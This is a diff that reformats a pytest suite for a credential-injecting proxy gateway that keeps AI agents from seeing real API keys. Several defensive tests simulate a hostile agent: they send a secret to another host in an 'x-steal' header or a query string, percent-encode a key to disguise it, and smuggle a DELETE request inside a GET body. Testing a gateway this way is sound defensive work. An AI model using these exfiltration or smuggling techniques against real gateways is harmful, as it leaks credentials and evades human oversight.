@@ -77,8 +77,9 @@ def test_targets_and_proxy_tokens_parse() -> None:
 
 async def test_https_request_gets_the_real_key_and_the_agent_never_sees_it(rig: RigFactory) -> None:
     async with rig(model_key()) as r, r.client() as http:
-        response = await http.post("https://api.anthropic.com/v1/messages?beta=true", headers=placeholder_headers(),
-                                   content=b'{"model":"m"}')
+        response = await http.post(
+            "https://api.anthropic.com/v1/messages?beta=true", headers=placeholder_headers(), content=b'{"model":"m"}'
+        )
 
     assert response.status_code == 200
     assert response.json()["echo"] == "/v1/messages?beta=true"
@@ -90,7 +91,12 @@ async def test_https_request_gets_the_real_key_and_the_agent_never_sees_it(rig: 
     assert nothing_secret_in(response.text) and nothing_secret_in(str(response.headers))
     (record,) = r.audit
     assert (record.method, record.host, record.path, record.status, record.injected) == (
-        "POST", "api.anthropic.com", "/v1/messages", 200, ("anthropic",))
+        "POST",
+        "api.anthropic.com",
+        "/v1/messages",
+        200,
+        ("anthropic",),
+    )
 
 
 async def test_a_client_without_the_ca_fails_tls_and_the_failure_is_audited(rig: RigFactory) -> None:
@@ -106,8 +112,14 @@ async def test_a_client_without_the_ca_fails_tls_and_the_failure_is_audited(rig:
 
 async def test_each_secret_type_is_injected_its_own_way(rig: RigFactory) -> None:
     credentials = (
-        secret("github", "generic", "api.example.test", GITHUB_TOKEN, header_name="Authorization",
-               value_format="token {value}"),
+        secret(
+            "github",
+            "generic",
+            "api.example.test",
+            GITHUB_TOKEN,
+            header_name="Authorization",
+            value_format="token {value}",
+        ),
         secret("maps", "generic", "other.example.test", "maps-key-123456", param_name="key"),
         secret("openai", "openai", "api.openai.com", OPENAI_KEY),
     )
@@ -125,8 +137,11 @@ async def test_each_secret_type_is_injected_its_own_way(rig: RigFactory) -> None
 async def test_oauth_model_tokens_go_as_bearer_with_the_oauth_beta(rig: RigFactory) -> None:
     oauth = (secret("anthropic", "anthropic", "api.anthropic.com", "sk-ant-oat01-oauth-token-value"),)
     async with rig(oauth) as r, r.client() as http:
-        await http.post("https://api.anthropic.com/v1/messages", content=b"{}",
-                        headers=placeholder_headers() | {"anthropic-beta": "prompt-caching-2024-07-31"})
+        await http.post(
+            "https://api.anthropic.com/v1/messages",
+            content=b"{}",
+            headers=placeholder_headers() | {"anthropic-beta": "prompt-caching-2024-07-31"},
+        )
 
     (seen,) = r.site.received
     assert seen.header(b"x-api-key") is None
@@ -145,8 +160,11 @@ async def test_sse_flows_event_by_event_through_the_tunnel(rig: RigFactory, site
         await reply.send(h11.EndOfMessage())
 
     site.respond = respond_sse
-    async with rig(model_key()) as r, r.client() as http, http.stream(
-            "POST", "https://api.anthropic.com/v1/messages", content=b"{}") as response:
+    async with (
+        rig(model_key()) as r,
+        r.client() as http,
+        http.stream("POST", "https://api.anthropic.com/v1/messages", content=b"{}") as response,
+    ):
         chunks = response.aiter_raw()
         first = await anext(chunks)
         assert not second_may_go.is_set()  # the site still holds the second event back
@@ -168,8 +186,13 @@ async def test_requests_in_one_tunnel_share_one_upstream_connection(rig: RigFact
 
 
 async def test_hop_by_hop_headers_are_stripped_both_ways(rig: RigFactory) -> None:
-    headers = {"connection": "keep-alive, x-agent-hop", "x-agent-hop": "1", "keep-alive": "timeout=30",
-               "te": "trailers", "proxy-authorization": "Basic eDp5"}
+    headers = {
+        "connection": "keep-alive, x-agent-hop",
+        "x-agent-hop": "1",
+        "keep-alive": "timeout=30",
+        "te": "trailers",
+        "proxy-authorization": "Basic eDp5",
+    }
     async with rig(model_key()) as r, r.client() as http:
         response = await http.post("https://api.anthropic.com/v1/messages", headers=headers, content=b"{}")
 
@@ -195,8 +218,11 @@ async def test_a_big_request_body_streams_through_whole(rig: RigFactory) -> None
 
 async def test_redirects_are_passed_back_not_followed(rig: RigFactory, site: FakeUpstream) -> None:
     async def respond_redirect(request: Received, reply: Reply) -> None:
-        await reply.send(h11.Response(status_code=307, headers=[(b"location", b"https://elsewhere.test/x"),
-                                                                (b"content-length", b"0")]))
+        await reply.send(
+            h11.Response(
+                status_code=307, headers=[(b"location", b"https://elsewhere.test/x"), (b"content-length", b"0")]
+            )
+        )
         await reply.send(h11.EndOfMessage())
 
     site.respond = respond_redirect
@@ -209,20 +235,34 @@ async def test_redirects_are_passed_back_not_followed(rig: RigFactory, site: Fak
 
 async def test_websocket_upgrade_is_piped_after_injection(rig: RigFactory, site: FakeUpstream) -> None:
     async def respond_upgrade(request: Received, reply: Reply) -> None:
-        await reply.send(h11.InformationalResponse(status_code=101, headers=[
-            (b"upgrade", b"websocket"), (b"connection", b"Upgrade"), (b"sec-websocket-accept", b"abc=")]))
+        await reply.send(
+            h11.InformationalResponse(
+                status_code=101,
+                headers=[(b"upgrade", b"websocket"), (b"connection", b"Upgrade"), (b"sec-websocket-accept", b"abc=")],
+            )
+        )
         writer = reply._writer
         writer.write(b"hello from the site")
         await writer.drain()
 
     site.respond = respond_upgrade
-    token = (secret("ws", "generic", "api.example.test", GITHUB_TOKEN, header_name="Authorization",
-                    value_format="Bearer {value}"),)
+    token = (
+        secret(
+            "ws",
+            "generic",
+            "api.example.test",
+            GITHUB_TOKEN,
+            header_name="Authorization",
+            value_format="Bearer {value}",
+        ),
+    )
     async with rig(token) as r:
         reader, writer = await open_tunnel(r.socket, "api.example.test", r.gateway.ca.cert_pem)
         try:
-            writer.write(b"GET /socket HTTP/1.1\r\nHost: api.example.test\r\nUpgrade: websocket\r\n"
-                         b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhl\r\nSec-WebSocket-Version: 13\r\n\r\n")
+            writer.write(
+                b"GET /socket HTTP/1.1\r\nHost: api.example.test\r\nUpgrade: websocket\r\n"
+                b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhl\r\nSec-WebSocket-Version: 13\r\n\r\n"
+            )
             head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
             greeting = await asyncio.wait_for(reader.readexactly(len(b"hello from the site")), 5)
         finally:
@@ -250,7 +290,8 @@ async def test_the_selftest_host_is_answered_by_the_gateway_itself(rig: RigFacto
 
 
 async def test_an_auth_failure_without_a_credential_tells_the_agent_what_to_ask_for(
-        rig: RigFactory, site: FakeUpstream) -> None:
+    rig: RigFactory, site: FakeUpstream
+) -> None:
     async def respond_401(request: Received, reply: Reply) -> None:
         body = b'{"message":"Bad credentials"}'
         await reply.send(h11.Response(status_code=401, headers=[(b"content-length", str(len(body)).encode())]))
@@ -258,8 +299,9 @@ async def test_an_auth_failure_without_a_credential_tells_the_agent_what_to_ask_
         await reply.send(h11.EndOfMessage())
 
     site.respond = respond_401
-    others = (secret("github", "generic", "api.example.test", GITHUB_TOKEN, grants=("work",),
-                     header_name="Authorization"),)
+    others = (
+        secret("github", "generic", "api.example.test", GITHUB_TOKEN, grants=("work",), header_name="Authorization"),
+    )
     async with rig(others) as r, r.client() as http:
         unknown = await http.get("https://other.example.test/v1/things")
         restricted = await http.get("https://api.example.test/user")
@@ -267,8 +309,11 @@ async def test_an_auth_failure_without_a_credential_tells_the_agent_what_to_ask_
     assert unknown.status_code == 401
     assert unknown.headers["x-should-retry"] == "false"
     body = unknown.json()
-    assert (body["error"], body["hostname"], body["path"]) == ("credential_not_found", "other.example.test",
-                                                             "/v1/things")
+    assert (body["error"], body["hostname"], body["path"]) == (
+        "credential_not_found",
+        "other.example.test",
+        "/v1/things",
+    )
     assert "clawden secrets add" in body["message"] and "--host other.example.test" in body["message"]
     assert restricted.status_code == 401
     assert restricted.json()["error"] == "access_restricted" and restricted.json()["secrets"] == ["github"]
@@ -298,8 +343,14 @@ async def test_a_blocked_path_gets_403_and_never_reaches_the_site(rig: RigFactor
         allowed = await http.get("https://api.example.test/repos/x/y")
 
     assert blocked.status_code == 403
-    assert blocked.json() == {"error": "blocked_by_policy", "message": blocked.json()["message"], "method": "DELETE",
-                              "host": "api.example.test", "path": "/repos/x/y", "rule_name": "no-deletes"}
+    assert blocked.json() == {
+        "error": "blocked_by_policy",
+        "message": blocked.json()["message"],
+        "method": "DELETE",
+        "host": "api.example.test",
+        "path": "/repos/x/y",
+        "rule_name": "no-deletes",
+    }
     assert allowed.status_code == 200
     assert [x.method for x in r.site.received] == [b"GET"]
     assert [(a.decision, a.rule) for a in r.audit] == [("blocked", "no-deletes"), ("allowed", "")]
@@ -335,8 +386,10 @@ async def test_allowlist_egress_lets_through_only_hosts_with_a_secret_or_an_allo
 
 
 async def test_a_secret_value_sent_to_another_host_is_blocked(rig: RigFactory) -> None:
-    credentials = (*model_key(),
-                   secret("github", "generic", "api.example.test", GITHUB_TOKEN, header_name="Authorization"))
+    credentials = (
+        *model_key(),
+        secret("github", "generic", "api.example.test", GITHUB_TOKEN, header_name="Authorization"),
+    )
     async with rig(credentials) as r, r.client() as http:
         in_header = await http.get("https://other.example.test/", headers={"x-steal": f"k={REAL_KEY}"})
         in_query = await http.get(f"https://other.example.test/?t={GITHUB_TOKEN}")
@@ -355,13 +408,17 @@ def streamed(*parts: bytes) -> Callable[[], AsyncIterator[bytes]]:
         for part in parts:
             yield part
             await asyncio.sleep(0.05)
+
     return body
 
 
 async def test_a_stored_value_in_a_streamed_body_is_redacted_and_a_disguised_one_refused(rig: RigFactory) -> None:
     half = len(REAL_KEY) // 2
-    plain = streamed(b'{"a":"' + b"x" * 100_000, REAL_KEY[:half].encode(),  # the value straddles two chunks
-                     REAL_KEY[half:].encode() + b'"}')
+    plain = streamed(
+        b'{"a":"' + b"x" * 100_000,
+        REAL_KEY[:half].encode(),  # the value straddles two chunks
+        REAL_KEY[half:].encode() + b'"}',
+    )
     escaped = "".join(f"%{b:02X}" for b in REAL_KEY.encode()).encode()
     disguised = streamed(b'{"a":"' + b"x" * 100_000, escaped[:30], escaped[30:] + b'"}')
     async with rig(model_key()) as r, r.client() as http:
@@ -384,8 +441,11 @@ async def test_an_approval_gated_request_waits_then_passes_on_approve(rig: RigFa
     rules = (rule("ask-pay", "manual_approval", "api.example.test", path_pattern="/pay/*"),)
     credentials = (secret("bank", "generic", "api.example.test", GITHUB_TOKEN, header_name="Authorization"),)
     async with rig(credentials, rules) as r, r.client() as http:
-        held = asyncio.create_task(http.post("https://api.example.test/pay/42", content=b'{"amount":5,"token":"'
-                                             + GITHUB_TOKEN.encode() + b'"}'))
+        held = asyncio.create_task(
+            http.post(
+                "https://api.example.test/pay/42", content=b'{"amount":5,"token":"' + GITHUB_TOKEN.encode() + b'"}'
+            )
+        )
         await asyncio.wait_for(r.approver.asked.wait(), 5)
         async with r.client() as other:  # a held request does not hold up the gateway
             assert (await other.get("https://api.example.test/balance")).status_code == 200
@@ -395,8 +455,13 @@ async def test_an_approval_gated_request_waits_then_passes_on_approve(rig: RigFa
 
     assert response.status_code == 200
     (ask,) = r.approver.asks
-    assert (ask.method, ask.host, ask.path, ask.rule, ask.agent_group) == ("POST", "api.example.test", "/pay/42",
-                                                                          "ask-pay", GROUP)
+    assert (ask.method, ask.host, ask.path, ask.rule, ask.agent_group) == (
+        "POST",
+        "api.example.test",
+        "/pay/42",
+        "ask-pay",
+        GROUP,
+    )
     assert '"amount":5' in ask.preview and nothing_secret_in(ask.preview)
     assert r.site.received[-1].header(b"authorization") == GITHUB_TOKEN.encode()
     assert [(a.decision, a.approval_id == ask.id) for a in r.audit if a.path == "/pay/42"] == [("approved", True)]
@@ -489,6 +554,7 @@ async def test_a_hanging_site_gives_504_and_a_resetting_one_502(rig: RigFactory,
             reply._writer.transport.abort()
         else:
             from tests.vault.sites import respond_json
+
             await respond_json(request, reply)
 
     site.respond = respond
@@ -573,12 +639,14 @@ async def test_the_tcp_listener_needs_the_groups_proxy_token(rig: RigFactory) ->
         async with httpx.AsyncClient(proxy=f"http://127.0.0.1:{port}", verify=context, trust_env=False) as none:
             with pytest.raises(httpx.ProxyError, match="407"):
                 await none.get("https://api.anthropic.com/v1/models")
-        async with httpx.AsyncClient(proxy=f"http://work:clp_bad@127.0.0.1:{port}", verify=context,
-                                     trust_env=False) as wrong:
+        async with httpx.AsyncClient(
+            proxy=f"http://work:clp_bad@127.0.0.1:{port}", verify=context, trust_env=False
+        ) as wrong:
             with pytest.raises(httpx.ProxyError, match="407"):
                 await wrong.get("https://api.anthropic.com/v1/models")
-        async with httpx.AsyncClient(proxy=f"http://work:clp_good@127.0.0.1:{port}", verify=context,
-                                     trust_env=False) as right:
+        async with httpx.AsyncClient(
+            proxy=f"http://work:clp_good@127.0.0.1:{port}", verify=context, trust_env=False
+        ) as right:
             response = await right.get("https://api.anthropic.com/v1/models")
 
     assert response.status_code == 200
@@ -588,13 +656,18 @@ async def test_the_tcp_listener_needs_the_groups_proxy_token(rig: RigFactory) ->
 # ---- a value never shows ----
 
 
-async def test_no_secret_value_reaches_logs_audit_or_errors(rig: RigFactory, caplog: pytest.LogCaptureFixture,
-                                                           site: FakeUpstream) -> None:
+async def test_no_secret_value_reaches_logs_audit_or_errors(
+    rig: RigFactory, caplog: pytest.LogCaptureFixture, site: FakeUpstream
+) -> None:
     caplog.set_level(logging.DEBUG)
-    credentials = (*model_key(),
-                   secret("github", "generic", "api.example.test", GITHUB_TOKEN, header_name="Authorization"))
-    rules = (rule("ask", "manual_approval", "other.example.test", path_pattern="/ask"),
-             rule("nope", "block", "other.example.test", path_pattern="/blocked"))
+    credentials = (
+        *model_key(),
+        secret("github", "generic", "api.example.test", GITHUB_TOKEN, header_name="Authorization"),
+    )
+    rules = (
+        rule("ask", "manual_approval", "other.example.test", path_pattern="/ask"),
+        rule("nope", "block", "other.example.test", path_pattern="/blocked"),
+    )
     async with rig(credentials, rules, read_timeout=0.3) as r, r.client() as http:
         r.approver.answer("denied")
         texts = [
@@ -618,6 +691,7 @@ def test_a_catalog_repr_hides_values() -> None:
 
 # --- no smuggling through upstream connections (issue: a hostile agent) ------------------------------
 
+
 @pytest.fixture
 async def lax_site(site_tls: FakeTLS) -> AsyncIterator[LaxSite]:
     site = await LaxSite().start(site_tls.server_context)
@@ -626,10 +700,15 @@ async def lax_site(site_tls: FakeTLS) -> AsyncIterator[LaxSite]:
 
 
 async def test_a_body_on_a_get_is_refused_so_it_cannot_become_a_request_no_rule_saw(
-        rig: RigFactory, lax_site: LaxSite) -> None:
+    rig: RigFactory, lax_site: LaxSite
+) -> None:
     smuggled = b"DELETE /repos/acme/prod HTTP/1.1\r\nHost: api.example.test\r\n\r\n"
-    async with rig(rules=(rule("no-deletes", "block", "api.example.test", method="DELETE"),),
-                   site_address=lax_site.address) as r, r.client() as client:
+    async with (
+        rig(
+            rules=(rule("no-deletes", "block", "api.example.test", method="DELETE"),), site_address=lax_site.address
+        ) as r,
+        r.client() as client,
+    ):
         refused = await client.request("GET", "https://api.example.test/repos/acme", content=smuggled)
         fine = await client.get("https://api.example.test/repos/acme")
 
@@ -639,19 +718,40 @@ async def test_a_body_on_a_get_is_refused_so_it_cannot_become_a_request_no_rule_
 
 
 async def test_two_agent_groups_never_share_an_upstream_connection(
-        rig: RigFactory, lax_site: LaxSite, sock_dir: Path) -> None:
-    family = secret("family-token", "generic", "api.example.test", "tok-family", grants=(GROUP,),
-                    header_name="authorization", value_format="Bearer {value}")
-    other = secret("other-token", "generic", "api.example.test", "tok-other", grants=("other",),
-                   header_name="authorization", value_format="Bearer {value}")
+    rig: RigFactory, lax_site: LaxSite, sock_dir: Path
+) -> None:
+    family = secret(
+        "family-token",
+        "generic",
+        "api.example.test",
+        "tok-family",
+        grants=(GROUP,),
+        header_name="authorization",
+        value_format="Bearer {value}",
+    )
+    other = secret(
+        "other-token",
+        "generic",
+        "api.example.test",
+        "tok-other",
+        grants=("other",),
+        header_name="authorization",
+        value_format="Bearer {value}",
+    )
     async with rig(credentials=(family, other), site_address=lax_site.address) as r:
         await r.gateway.listen("other", sock_dir / "other" / "gateway.sock")
         other_relay = await relay.serve_relay(str(sock_dir / "other" / "gateway.sock"))
         context = ssl.create_default_context(cadata=r.gateway.ca.cert_pem.decode())
         try:
-            async with r.client() as mine, httpx.AsyncClient(
-                    proxy=f"http://127.0.0.1:{other_relay.sockets[0].getsockname()[1]}", verify=context,
-                    trust_env=False, timeout=5) as theirs:
+            async with (
+                r.client() as mine,
+                httpx.AsyncClient(
+                    proxy=f"http://127.0.0.1:{other_relay.sockets[0].getsockname()[1]}",
+                    verify=context,
+                    trust_env=False,
+                    timeout=5,
+                ) as theirs,
+            ):
                 for _ in range(3):
                     assert (await mine.get("https://api.example.test/a")).status_code == 200
                     assert (await theirs.get("https://api.example.test/b")).status_code == 200
@@ -681,7 +781,8 @@ async def test_an_approval_card_shows_the_whole_target_and_says_when_the_body_is
 
 
 async def test_an_upgrade_other_than_websocket_never_turns_the_connection_into_a_pipe(
-        rig: RigFactory, site: FakeUpstream) -> None:
+    rig: RigFactory, site: FakeUpstream
+) -> None:
     async def switch_anyway(request: Received, reply: Reply) -> None:  # a site that switches to h2c unasked
         reply._writer.write(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n")
         await reply._writer.drain()
@@ -690,8 +791,10 @@ async def test_an_upgrade_other_than_websocket_never_turns_the_connection_into_a
     async with rig() as r:
         reader, writer = await open_tunnel(r.socket, "api.example.test", r.gateway.ca.cert_pem)
         try:
-            writer.write(b"GET / HTTP/1.1\r\nHost: api.example.test\r\nUpgrade: h2c\r\nConnection: Upgrade, "
-                         b"HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n")
+            writer.write(
+                b"GET / HTTP/1.1\r\nHost: api.example.test\r\nUpgrade: h2c\r\nConnection: Upgrade, "
+                b"HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"
+            )
             head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
         finally:
             await close_writer(writer)
@@ -703,13 +806,23 @@ async def test_an_upgrade_other_than_websocket_never_turns_the_connection_into_a
 
 
 def test_a_card_for_a_model_call_says_so_instead_of_showing_claude_codes_system_prompt() -> None:
-    ask = ApprovalAsk(id="a1", agent_group="main", method="POST", host="api.anthropic.com",
-                      path="/v1/messages?beta=true", rule="ask-all",
-                      preview='{"model":"claude-sonnet-4-5","system":"You are Claude Code, Anthropic',
-                      expires_at=0.0, body_bytes=48_211, body_whole=False)
+    ask = ApprovalAsk(
+        id="a1",
+        agent_group="main",
+        method="POST",
+        host="api.anthropic.com",
+        path="/v1/messages?beta=true",
+        rule="ask-all",
+        preview='{"model":"claude-sonnet-4-5","system":"You are Claude Code, Anthropic',
+        expires_at=0.0,
+        body_bytes=48_211,
+        body_whole=False,
+    )
 
     body = card_for(ask).body
 
-    assert "A model call: the agent asks claude-sonnet-4-5 to think (its conversation so far, 48,211 bytes; " \
-           "not shown)." in body
+    assert (
+        "A model call: the agent asks claude-sonnet-4-5 to think (its conversation so far, 48,211 bytes; "
+        "not shown)." in body
+    )
     assert "You are Claude Code" not in body
